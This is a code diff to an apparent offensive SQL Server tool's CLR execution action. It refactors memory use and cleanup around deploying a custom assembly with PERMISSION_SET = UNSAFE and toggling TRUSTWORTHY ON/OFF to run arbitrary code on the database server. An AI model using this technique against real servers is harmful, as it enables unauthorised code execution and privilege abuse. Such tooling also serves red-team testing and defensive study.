@@ -12,12 +12,13 @@ from loguru import logger
 from ...services.database import DatabaseContext
 from ...utils.common import (
     generate_random_string,
-    get_hex_char,
     normalize_windows_path,
 )
 from ..base import BaseAction, Arg
 from ..factory import ActionFactory
 
+_READ_CHUNK_SIZE = 1 << 20
+
 @ActionFactory.register(
     "clr", "Deploy and execute custom CLR assemblies."
 )
@@ -82,8 +83,16 @@ class ClrExecution(BaseAction):
         drop_procedure = f"DROP PROCEDURE IF EXISTS [{self._function}];"
         drop_assembly = f"DROP ASSEMBLY IF EXISTS [{assembly_name}];"
         drop_clr_hash = f"EXEC sp_drop_trusted_assembly 0x{library_hash};"
+        # Built once: the literal is twice the DLL size and the MVID retry resends it
+        create_assembly = f"CREATE ASSEMBLY [{assembly_name}] FROM 0x{library_hex_bytes} WITH PERMISSION_SET = UNSAFE;"
+        del library_hex_bytes
+        execution_database = database_context.query_service.execution_database
+        trustworthy_on = f"ALTER DATABASE [{execution_database}] SET TRUSTWORTHY ON;"
+        trustworthy_off = f"ALTER DATABASE [{execution_database}] SET TRUSTWORTHY OFF;"
         used_trusted_assembly = False
         set_trustworthy = False
+        created_assembly = False
+        created_procedure = False
 
         logger.info("Starting CLR assembly deployment process")
 
@@ -114,7 +123,7 @@ class ClrExecution(BaseAction):
                     )
                     try:
                         database_context.query_service.execute_non_processing(
-                            f"ALTER DATABASE [{database_context.query_service.execution_database}] SET TRUSTWORTHY ON;"
+                            trustworthy_on
                         )
                         set_trustworthy = True
                         logger.success("TRUSTWORTHY enabled on current database")
@@ -134,8 +143,7 @@ class ClrExecution(BaseAction):
             logger.info("Creating the assembly from DLL bytes")
             try:
                 database_context.query_service.execute_non_processing(
-                    f"CREATE ASSEMBLY [{assembly_name}] FROM 0x{library_hex_bytes} WITH PERMISSION_SET = UNSAFE;",
-                    silent=True,
+                    create_assembly, silent=True
                 )
             except Exception as create_err:
                 conflicting = self._extract_mvid_conflict_name(str(create_err))
@@ -147,10 +155,11 @@ class ClrExecution(BaseAction):
                         f"DROP ASSEMBLY IF EXISTS [{conflicting}];"
                     )
                     database_context.query_service.execute_non_processing(
-                        f"CREATE ASSEMBLY [{assembly_name}] FROM 0x{library_hex_bytes} WITH PERMISSION_SET = UNSAFE;"
+                        create_assembly
                     )
                 else:
                     raise
+            created_assembly = True
 
             if not database_context.config_service.check_assembly(assembly_name):
                 logger.error("Failed to create a new assembly")
@@ -163,6 +172,7 @@ class ClrExecution(BaseAction):
             database_context.query_service.execute_non_processing(
                 f"CREATE PROCEDURE [dbo].[{self._function}] @args NVARCHAR(MAX) AS EXTERNAL NAME [{assembly_name}].[{self._class_name}].[{self._function}];"
             )
+            created_procedure = True
 
             if not database_context.config_service.check_procedure(self._function):
                 logger.error("Failed to create the stored procedure")
@@ -184,10 +194,12 @@ class ClrExecution(BaseAction):
             return False
 
         finally:
-            # Cleanup (always executed)
+            # Cleanup (always executed), only undoing what this run created
             logger.info("Performing cleanup")
-            database_context.query_service.execute_non_processing(drop_procedure)
-            database_context.query_service.execute_non_processing(drop_assembly)
+            if created_procedure:
+                database_context.query_service.execute_non_processing(drop_procedure)
+            if created_assembly:
+                database_context.query_service.execute_non_processing(drop_assembly)
 
             if used_trusted_assembly:
                 database_context.query_service.execute_non_processing(drop_clr_hash)
@@ -195,7 +207,7 @@ class ClrExecution(BaseAction):
             if set_trustworthy:
                 logger.info("Resetting TRUSTWORTHY property")
                 database_context.query_service.execute_non_processing(
-                    f"ALTER DATABASE [{database_context.query_service.execution_database}] SET TRUSTWORTHY OFF;"
+                    trustworthy_off
                 )
 
     @staticmethod
@@ -243,28 +255,16 @@ class ClrExecution(BaseAction):
             file_size = path.stat().st_size
             logger.info(f"{path} is {file_size} bytes")
 
-            # Read all DLL bytes
+            # Hash and hex-encode chunk by chunk so the raw assembly is never
+            # held in memory next to its (twice as large) hex form
+            sha512 = hashlib.sha512()
+            hex_chunks = []
             with path.open("rb") as f:
-                dll_bytes = f.read()
+                while chunk := f.read(_READ_CHUNK_SIZE):
+                    sha512.update(chunk)
+                    hex_chunks.append(chunk.hex().upper())
 
-            # Compute SHA-512 hash
-            sha512 = hashlib.sha512()
-            sha512.update(dll_bytes)
-            hash_bytes = sha512.digest()
-
-            # Convert hash to lowercase hex
-            hash_chars = []
-            for b in hash_bytes:
-                hash_chars.append(get_hex_char((b >> 4) & 0xF, False))
-                hash_chars.append(get_hex_char(b & 0xF, False))
-
-            # Convert DLL bytes to uppercase hex
-            dll_hex_chars = []
-            for b in dll_bytes:
-                dll_hex_chars.append(get_hex_char((b >> 4) & 0xF, True))
-                dll_hex_chars.append(get_hex_char(b & 0xF, True))
-
-            return ("".join(hash_chars), "".join(dll_hex_chars))
+            return (sha512.hexdigest(), "".join(hex_chunks))
 
         except FileNotFoundError:
             logger.error(f"Unable to load {dll}")